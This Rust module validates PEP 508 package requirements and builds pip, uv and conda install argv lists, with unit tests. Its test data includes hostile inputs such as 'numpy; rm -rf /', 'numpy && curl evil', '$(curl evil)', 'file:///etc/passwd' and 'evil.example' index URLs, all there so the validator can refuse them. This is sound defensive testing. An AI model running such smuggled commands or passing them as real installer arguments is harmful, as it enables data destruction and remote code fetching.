//! Package arguments: what `install_dependencies` accepts (plain PEP 508 requirements, nothing an
//! installer would read as an option, a URL or a path) and what `check_installed_packages` accepts
//! (distribution or import names), and the [`InstallPlan`]: the installer argv lists (pip, uv or
//! conda; batches, then per-package fallbacks) that install validated requirements into an
//! environment. All pure; refusals name the entry and the reason.

use std::collections::BTreeMap;
use std::str::FromStr;

use pep508_rs::{Requirement, VersionOrUrl};
use serde::Serialize;

use crate::environment::{CONDA_ROOT, EnvSpec, EnvType};
use crate::error::PackageError;

/// Most entries one call may name.
pub const MAX_PACKAGES: usize = 50;
/// Longest requirement accepted.
pub const MAX_REQUIREMENT_LEN: usize = 200;
/// Longest name accepted by `check_installed_packages`.
pub const MAX_NAME_LEN: usize = 100;

/// Characters a shell would interpret and no requirement needs.
const SHELL_METACHARACTERS: &[char] = &['`', '$', '|', '&', '\\', '{', '}', '#', '^', '%'];
const ARCHIVE_ENDINGS: &[&str] = &[
    ".whl", ".zip", ".tar.gz", ".tgz", ".tar.bz2", ".tar.xz", ".egg",
];
const VCS_PREFIXES: &[&str] = &["git+", "hg+", "svn+", "bzr+", "file:"];

/// A requirement that passed validation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValidRequirement {
    /// As the user wrote it (trimmed); this is what the installer receives.
    pub text: String,
    /// The normalized distribution name (`python-dateutil`).
    pub name: String,
    /// The same requirement as a conda spec, when conda can express it (no extras, no markers,
    /// only `==`, `!=`, `<`, `<=`, `>`, `>=`).
    pub conda_spec: Option<String>,
}

fn refuse(entry: &str, reason: impl Into<String>) -> PackageError {
    PackageError::Refused {
        entry: entry.chars().take(80).collect(),
        reason: reason.into(),
    }
}

/// A list must name at least one and at most [`MAX_PACKAGES`] entries.
fn check_count(entries: &[String]) -> Result<(), PackageError> {
    if entries.is_empty() {
        return Err(PackageError::Empty);
    }
    if entries.len() > MAX_PACKAGES {
        return Err(PackageError::TooMany {
            count: entries.len(),
            max: MAX_PACKAGES,
        });
    }
    Ok(())
}

/// Checks the list and every entry; the whole call is refused at the first bad entry.
pub fn validate_requirements(entries: &[String]) -> Result<Vec<ValidRequirement>, PackageError> {
    check_count(entries)?;
    entries.iter().map(|e| validate_requirement(e)).collect()
}

/// One requirement: a name with optional extras, version specifiers and markers.
pub fn validate_requirement(entry: &str) -> Result<ValidRequirement, PackageError> {
    let text = entry.trim();
    check_form(entry, text)?;
    check_names_a_package(entry, text)?;
    let req = parse_pep508(entry, text)?;
    let specifiers = version_specifiers(entry, &req)?;
    let name = req.name.to_string();
    let conda_spec = conda_spec(
        &name,
        req.extras.is_empty(),
        req.marker.is_true(),
        specifiers.as_deref(),
    );
    Ok(ValidRequirement {
        text: text.to_string(),
        name,
        conda_spec,
    })
}

/// The outer form of an entry (`text` is `entry` trimmed): not empty, not too long, no control
/// characters, not an installer option.
fn check_form(entry: &str, text: &str) -> Result<(), PackageError> {
    if text.is_empty() {
        return Err(refuse(entry, "empty entry"));
    }
    if entry.len() > MAX_REQUIREMENT_LEN {
        return Err(refuse(
            entry,
            format!("longer than {MAX_REQUIREMENT_LEN} characters"),
        ));
    }
    if entry.chars().any(char::is_control) {
        return Err(refuse(entry, "contains a newline or control character"));
    }
    if text.starts_with('-') {
        return Err(refuse(
            entry,
            "starts with '-': installer options are not accepted, only requirements such as 'pandas>=2'",
        ));
    }
    Ok(())
}

/// The entry names a package from the index: no URL, VCS reference, direct reference, local
/// path, shell metacharacter or archive file name.
fn check_names_a_package(entry: &str, text: &str) -> Result<(), PackageError> {
    let lower = text.to_ascii_lowercase();
    if lower.contains("://") || VCS_PREFIXES.iter().any(|p| lower.starts_with(p)) {
        return Err(refuse(
            entry,
            "URLs and VCS references are not accepted; name a package from the configured index",
        ));
    }
    if text.contains('@') {
        return Err(refuse(
            entry,
            "direct references ('name @ url') are not accepted",
        ));
    }
    if text.contains('/') || text.starts_with('.') || text.starts_with('~') {
        return Err(refuse(
            entry,
            "local paths are not accepted; name a package",
        ));
    }
    if let Some(c) = text.chars().find(|c| SHELL_METACHARACTERS.contains(c)) {
        return Err(refuse(
            entry,
            format!("contains the character {c:?}, which no requirement needs"),
        ));
    }
    if ARCHIVE_ENDINGS.iter().any(|end| lower.ends_with(end)) {
        return Err(refuse(
            entry,
            "archive file names are not accepted; name a package",
        ));
    }
    Ok(())
}

/// Parses `text` as a PEP 508 requirement; the refusal quotes the parser's first line.
fn parse_pep508(
    entry: &str,
    text: &str,
) -> Result<Requirement<pep508_rs::VerbatimUrl>, PackageError> {
    Requirement::<pep508_rs::VerbatimUrl>::from_str(text).map_err(|e| {
        refuse(
            entry,
            format!(
                "not a valid requirement (PEP 508): {}",
                first_line(&e.to_string())
            ),
        )
    })
}

/// The version specifiers as written by the parser (`>=1.26, <3`), if any; a direct reference
/// is refused.
fn version_specifiers(
    entry: &str,
    req: &Requirement<pep508_rs::VerbatimUrl>,
) -> Result<Option<String>, PackageError> {
    match &req.version_or_url {
        Some(VersionOrUrl::Url(_)) => Err(refuse(
            entry,
            "direct references ('name @ url') are not accepted",
        )),
        Some(VersionOrUrl::VersionSpecifier(s)) => Ok(Some(s.to_string())),
        None => Ok(None),
    }
}

fn first_line(s: &str) -> &str {
    s.lines().next().unwrap_or(s)
}

fn conda_spec(
    name: &str,
    no_extras: bool,
    no_marker: bool,
    specifiers: Option<&str>,
) -> Option<String> {
    if !no_extras || !no_marker {
        return None;
    }
    match specifiers {
        None => Some(name.to_string()),
        Some(s) if s.contains("~=") || s.contains("===") => None,
        Some(s) => Some(format!("{name}{}", s.replace(' ', ""))),
    }
}

/// Names for `check_installed_packages`: distribution names (`python-dateutil`) or import names
/// (`dateutil`, `sklearn`, `yaml.loader`).
pub fn validate_lookup_names(entries: &[String]) -> Result<Vec<String>, PackageError> {
    check_count(entries)?;
    entries
        .iter()
        .map(|entry| {
            let name = entry.trim();
            let ok = !name.is_empty()
                && name.len() <= MAX_NAME_LEN
                && name.chars().next().is_some_and(|c| c.is_ascii_alphanumeric())
                && name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'));
            if ok {
                Ok(name.to_string())
            } else {
                Err(refuse(
                    entry,
                    format!(
                        "not a package or module name (letters, digits, '.', '_', '-'; at most {MAX_NAME_LEN})"
                    ),
                ))
            }
        })
        .collect()
}

/// One installer invocation: an argv list (never a shell string).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Invocation {
    pub argv: Vec<String>,
    /// Which installer it is (`pip`, `uv`, `conda`), reported per package.
    pub via: &'static str,
}

/// A batch invocation and the requirements it covers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Step {
    #[serde(flatten)]
    pub invocation: Invocation,
    pub packages: Vec<String>,
}

/// What the install container runs: batches first; for a requirement no batch installed, its
/// fallbacks one by one (so one bad package does not hide which others are fine).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct InstallPlan {
    pub steps: Vec<Step>,
    pub fallback: BTreeMap<String, Vec<Invocation>>,
    /// Requirement → distribution name, to read versions before and after.
    pub names: BTreeMap<String, String>,
}

fn pip(env: &EnvSpec, reqs: &[&str]) -> Invocation {
    let mut argv = vec![
        env.interpreter(),
        "-m".into(),
        "pip".into(),
        "install".into(),
        "--no-input".into(),
        "--".into(),
    ];
    argv.extend(reqs.iter().map(|r| r.to_string()));
    Invocation { argv, via: "pip" }
}

fn uv(env: &EnvSpec, reqs: &[&str]) -> Invocation {
    let mut argv = vec![
        "uv".into(),
        "pip".into(),
        "install".into(),
        "--python".into(),
        env.interpreter(),
        "--".into(),
    ];
    argv.extend(reqs.iter().map(|r| r.to_string()));
    Invocation { argv, via: "uv" }
}

fn conda(env: &EnvSpec, specs: &[&str]) -> Invocation {
    let mut argv = vec![
        format!("{CONDA_ROOT}/bin/conda"),
        "install".into(),
        "-y".into(),
        "-q".into(),
        "-p".into(),
        env.prefix(),
        "--".into(),
    ];
    argv.extend(specs.iter().map(|r| r.to_string()));
    Invocation { argv, via: "conda" }
}

/// The plan for installing `reqs` into `env` with its own installer: pip for venv, uv for
/// venv-uv, conda for conda (pip inside the conda env for what conda cannot express or lacks).
pub fn install_plan(env: &EnvSpec, reqs: &[ValidRequirement]) -> InstallPlan {
    let (steps, fallback) = match env.env_type {
        EnvType::Venv | EnvType::VenvUv => venv_plan(env, reqs),
        EnvType::Conda => conda_plan(env, reqs),
    };
    InstallPlan {
        steps,
        fallback,
        names: reqs
            .iter()
            .map(|r| (r.text.clone(), r.name.clone()))
            .collect(),
    }
}

/// Per requirement, the invocations tried one by one when no batch installed it.
type Fallback = BTreeMap<String, Vec<Invocation>>;

/// A batch covering `packages`.
fn step(invocation: Invocation, packages: &[&str]) -> Step {
    Step {
        invocation,
        packages: packages.iter().map(|t| t.to_string()).collect(),
    }
}

/// venv (pip) or venv-uv (uv): one batch of everything; with more than one requirement, each
/// alone as its fallback.
fn venv_plan(env: &EnvSpec, reqs: &[ValidRequirement]) -> (Vec<Step>, Fallback) {
    let installer = if env.env_type == EnvType::Venv {
        pip
    } else {
        uv
    };
    let texts: Vec<&str> = reqs.iter().map(|r| r.text.as_str()).collect();
    let mut fallback = Fallback::new();
    if reqs.len() > 1 {
        for t in &texts {
            fallback.insert(t.to_string(), vec![installer(env, &[t])]);
        }
    }
    (vec![step(installer(env, &texts), &texts)], fallback)
}

/// conda: one conda batch of what conda can express, one pip batch (inside the conda env) of
/// the rest; see [`conda_fallback`].
fn conda_plan(env: &EnvSpec, reqs: &[ValidRequirement]) -> (Vec<Step>, Fallback) {
    let (by_conda, by_pip): (Vec<&ValidRequirement>, Vec<&ValidRequirement>) =
        reqs.iter().partition(|r| r.conda_spec.is_some());
    let mut steps = Vec::new();
    if !by_conda.is_empty() {
        let specs: Vec<&str> = by_conda
            .iter()
            .filter_map(|r| r.conda_spec.as_deref())
            .collect();
        let texts: Vec<&str> = by_conda.iter().map(|r| r.text.as_str()).collect();
        steps.push(step(conda(env, &specs), &texts));
    }
    if !by_pip.is_empty() {
        let texts: Vec<&str> = by_pip.iter().map(|r| r.text.as_str()).collect();
        steps.push(step(pip(env, &texts), &texts));
    }
    let fallback = conda_fallback(env, reqs, by_conda.len(), by_pip.len());
    (steps, fallback)
}

/// conda fallbacks: a conda requirement alone (when its batch held others), then pip; a
/// pip-only requirement alone with pip (when its batch held others). A requirement whose batch
/// was itself alone gets none.
fn conda_fallback(
    env: &EnvSpec,
    reqs: &[ValidRequirement],
    conda_batch: usize,
    pip_batch: usize,
) -> Fallback {
    let mut fallback = Fallback::new();
    for r in reqs {
        let mut attempts = Vec::new();
        if let Some(spec) = r.conda_spec.as_deref().filter(|_| conda_batch > 1) {
            attempts.push(conda(env, &[spec]));
        }
        if r.conda_spec.is_some() || pip_batch > 1 {
            attempts.push(pip(env, &[r.text.as_str()]));
        }
        if !attempts.is_empty() {
            fallback.insert(r.text.clone(), attempts);
        }
    }
    fallback
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reqs(list: &[&str]) -> Vec<ValidRequirement> {
        list.iter().map(|s| ok(s)).collect()
    }

    #[test]
    fn pip_plan_for_venv() {
        let env = EnvSpec::default_for(EnvType::Venv);
        let plan = install_plan(&env, &reqs(&["six", "attrs>=23"]));
        assert_eq!(plan.steps.len(), 1);
        assert_eq!(
            plan.steps[0].invocation.argv,
            [
                "/opt/venv/bin/python",
                "-m",
                "pip",
                "install",
                "--no-input",
                "--",
                "six",
                "attrs>=23"
            ]
        );
        assert_eq!(
            plan.fallback["six"][0].argv.last().map(String::as_str),
            Some("six")
        );
        assert_eq!(plan.names["attrs>=23"], "attrs");
        // A single package needs no fallback: the batch is that package.
        assert!(install_plan(&env, &reqs(&["six"])).fallback.is_empty());
    }

    #[test]
    fn uv_plan_targets_the_env_interpreter() {
        let env = EnvSpec::default_for(EnvType::VenvUv);
        let plan = install_plan(&env, &reqs(&["six"]));
        assert_eq!(
            plan.steps[0].invocation.argv,
            [
                "uv",
                "pip",
                "install",
                "--python",
                "/opt/uv-venv/bin/python",
                "--",
                "six"
            ]
        );
        assert_eq!(plan.steps[0].invocation.via, "uv");
    }

    #[test]
    fn conda_plan_falls_back_to_pip() {
        let env = EnvSpec::new(EnvType::Conda, Some("work")).unwrap();
        let plan = install_plan(&env, &reqs(&["numpy>=1.26", "rich[jupyter]"]));
        assert_eq!(
            plan.steps[0].invocation.argv,
            [
                "/opt/conda/bin/conda",
                "install",
                "-y",
                "-q",
                "-p",
                "/opt/conda/envs/work",
                "--",
                "numpy>=1.26"
            ]
        );
        assert_eq!(plan.steps[1].invocation.via, "pip");
        assert_eq!(plan.steps[1].packages, ["rich[jupyter]"]);
        let numpy = &plan.fallback["numpy>=1.26"];
        assert_eq!(numpy.len(), 1);
        assert_eq!(numpy[0].via, "pip");
        assert_eq!(numpy[0].argv[0], "/opt/conda/envs/work/bin/python");
        assert!(!plan.fallback.contains_key("rich[jupyter]"));
    }

    #[test]
    fn every_argument_is_one_argv_element_after_the_separator() {
        let env = EnvSpec::default_for(EnvType::Venv);
        let plan = install_plan(&env, &reqs(&["pkg ; sys_platform == 'linux'"]));
        let argv = &plan.steps[0].invocation.argv;
        let sep = argv.iter().position(|a| a == "--").unwrap();
        assert_eq!(&argv[sep + 1..], ["pkg ; sys_platform == 'linux'"]);
    }

    fn ok(s: &str) -> ValidRequirement {
        validate_requirement(s).unwrap_or_else(|e| panic!("{s:?} refused: {e}"))
    }

    #[test]
    fn plain_requirements_pass() {
        assert_eq!(ok("numpy").name, "numpy");
        assert_eq!(ok("  pandas>=2.0  ").text, "pandas>=2.0");
        assert_eq!(ok("Python_Dateutil==2.9.0").name, "python-dateutil");
        assert_eq!(
            ok("requests[security,socks]>=2.8.1,==2.8.*").name,
            "requests"
        );
        let with_marker = ok("tomli>=1.1; python_version < \"3.11\"");
        assert_eq!(with_marker.conda_spec, None);
        assert_eq!(ok("six").conda_spec.as_deref(), Some("six"));
        assert_eq!(
            ok("numpy>=1.26, <3").conda_spec.as_deref(),
            Some("numpy>=1.26,<3")
        );
        assert_eq!(ok("attrs~=23.1").conda_spec, None);
        assert_eq!(ok("rich[jupyter]").conda_spec, None);
        assert_eq!(ok("zope.interface!=5.0").name, "zope-interface");
        assert_eq!(ok("pkg ; sys_platform == 'linux'").name, "pkg");
    }

    #[test]
    fn hostile_requirements_are_refused() {
        let long = "a".repeat(MAX_REQUIREMENT_LEN + 1);
        let hostile = [
            ("", "empty"),
            ("   ", "empty"),
            ("-r requirements.txt", "options"),
            ("--index-url=http://evil.example/simple", "options"),
            ("-e .", "options"),
            ("--pre", "options"),
            ("http://evil.example/pkg.whl", "URL"),
            ("https://files.pythonhosted.org/x-1.0.tar.gz", "URL"),
            ("git+https://github.com/x/y.git", "URL"),
            ("git+ssh://git@github.com/x/y", "URL"),
            ("hg+http://x/y", "URL"),
            ("file:///etc/passwd", "URL"),
            ("pkg @ https://evil.example/pkg.whl", "URL"),
            ("pkg @ evil", "direct reference"),
            ("pkg@file:///tmp/x", "URL"),
            ("./local/pkg", "local path"),
            ("../pkg", "local path"),
            ("/tmp/pkg", "local path"),
            ("~/pkg", "local path"),
            ("pkg-1.0-py3-none-any.whl", "archive"),
            ("pkg.tar.gz", "archive"),
            ("numpy; rm -rf x", "PEP 508"),
            ("numpy; rm -rf /", "local path"),
            ("numpy && curl evil", "'&'"),
            ("numpy | sh", "'|'"),
            ("$(curl evil)", "'$'"),
            ("`id`", "'`'"),
            ("numpy\nrequests", "newline"),
            ("numpy\r", "control"),
            ("num\0py", "control"),
            ("numpy\t", "control"),
            ("numpy #comment", "'#'"),
            ("pkg>=1 \\", "'\\\\'"),
            ("pkg{a,b}", "'{'"),
            ("numpy===", "PEP 508"),
            ("numpy>>1", "PEP 508"),
            ("[extra]", "PEP 508"),
            ("requests[", "PEP 508"),
            (long.as_str(), "longer than"),
        ];
        for (entry, why) in hostile {
            let err = validate_requirement(entry).expect_err(entry).to_string();
            assert!(err.contains(why), "{entry:?}: {err} (expected {why:?})");
        }
    }

    fn reason(result: Result<(), PackageError>) -> String {
        result.map_or_else(|e| e.to_string(), |()| "accepted".to_string())
    }

    #[test]
    fn form_checks() {
        assert_eq!(reason(check_form("six", "six")), "accepted");
        assert!(reason(check_form("  ", "")).contains("empty entry"));
        assert!(reason(check_form("-e .", "-e .")).contains("installer options"));
        assert!(reason(check_form("six\n", "six")).contains("control character"));
        let long = "a".repeat(MAX_REQUIREMENT_LEN + 1);
        assert!(reason(check_form(&long, &long)).contains("longer than 200"));
        // The length counts the entry as given, surrounding spaces included.
        let padded = format!("{}six", " ".repeat(MAX_REQUIREMENT_LEN));
        assert!(reason(check_form(&padded, "six")).contains("longer than"));
    }

    #[test]
    fn package_name_checks() {
        let check = |t: &str| reason(check_names_a_package(t, t));
        assert_eq!(check("numpy>=1.26; python_version < '3.13'"), "accepted");
        assert!(check("GIT+https://x/y").contains("URLs and VCS"));
        assert!(check("svn+x").contains("URLs and VCS"));
        assert!(check("pkg@x").contains("direct references"));
        assert!(check(".pkg").contains("local paths"));
        assert!(check("pkg%").contains("'%'"));
        assert!(check("PKG.WHL").contains("archive file names"));
    }

    #[test]
    fn parsed_specifiers() {
        let req = parse_pep508("numpy >=1.26,<3", "numpy >=1.26,<3").unwrap();
        assert_eq!(
            version_specifiers("numpy", &req).unwrap().as_deref(),
            Some(">=1.26, <3")
        );
        let req = parse_pep508("six", "six").unwrap();
        assert_eq!(version_specifiers("six", &req).unwrap(), None);
        let err = parse_pep508("a b", "a b").unwrap_err().to_string();
        assert!(err.contains("not a valid requirement (PEP 508): "), "{err}");
        assert!(!err.contains('\n'), "{err}");
    }

    #[test]
    fn venv_and_conda_parts() {
        let env = EnvSpec::default_for(EnvType::VenvUv);
        let (steps, fallback) = venv_plan(&env, &reqs(&["six", "attrs"]));
        assert_eq!(steps.len(), 1);
        assert_eq!(steps[0].packages, ["six", "attrs"]);
        assert_eq!(fallback["attrs"][0].via, "uv");
        assert_eq!(fallback["attrs"][0].argv.last().unwrap(), "attrs");

        let env = EnvSpec::new(EnvType::Conda, Some("work")).unwrap();
        let both = reqs(&["numpy", "six", "rich[jupyter]", "attrs~=23.1"]);
        let fallback = conda_fallback(&env, &both, 2, 2);
        let vias = |k: &str| fallback[k].iter().map(|i| i.via).collect::<Vec<_>>();
        assert_eq!(vias("numpy"), ["conda", "pip"]);
        assert_eq!(vias("rich[jupyter]"), ["pip"]);
        assert_eq!(fallback["numpy"][0].argv.last().unwrap(), "numpy");
        let alone = conda_fallback(&env, &reqs(&["numpy", "rich[jupyter]"]), 1, 1);
        assert_eq!(alone.keys().collect::<Vec<_>>(), ["numpy"]);
        assert_eq!(alone["numpy"][0].via, "pip");
        let (steps, _) = conda_plan(&env, &both);
        assert_eq!(steps[0].packages, ["numpy", "six"]);
        assert_eq!(steps[1].packages, ["rich[jupyter]", "attrs~=23.1"]);
    }

    #[test]
    fn list_limits() {
        assert!(matches!(
            validate_requirements(&[]),
            Err(PackageError::Empty)
        ));
        let many: Vec<String> = (0..=MAX_PACKAGES).map(|i| format!("p{i}")).collect();
        assert!(matches!(
            validate_requirements(&many),
            Err(PackageError::TooMany { .. })
        ));
        let mixed = vec!["numpy".to_string(), "-r x".to_string()];
        let err = validate_requirements(&mixed).unwrap_err().to_string();
        assert!(err.contains("-r x"), "{err}");
    }

    #[test]
    fn lookup_names() {
        let names: Vec<String> = [
            "numpy",
            "python-dateutil",
            "dateutil",
            "sklearn",
            "yaml.loader",
            "zope.interface",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        assert_eq!(validate_lookup_names(&names).unwrap(), names);
        for bad in [
            "",
            "-x",
            "a b",
            "os;print(1)",
            "__import__('os')",
            "a/b",
            "x\ny",
            ".hidden",
            &"a".repeat(101),
        ] {
            assert!(
                validate_lookup_names(&[bad.to_string()]).is_err(),
                "{bad:?} accepted"
            );
        }
    }
}
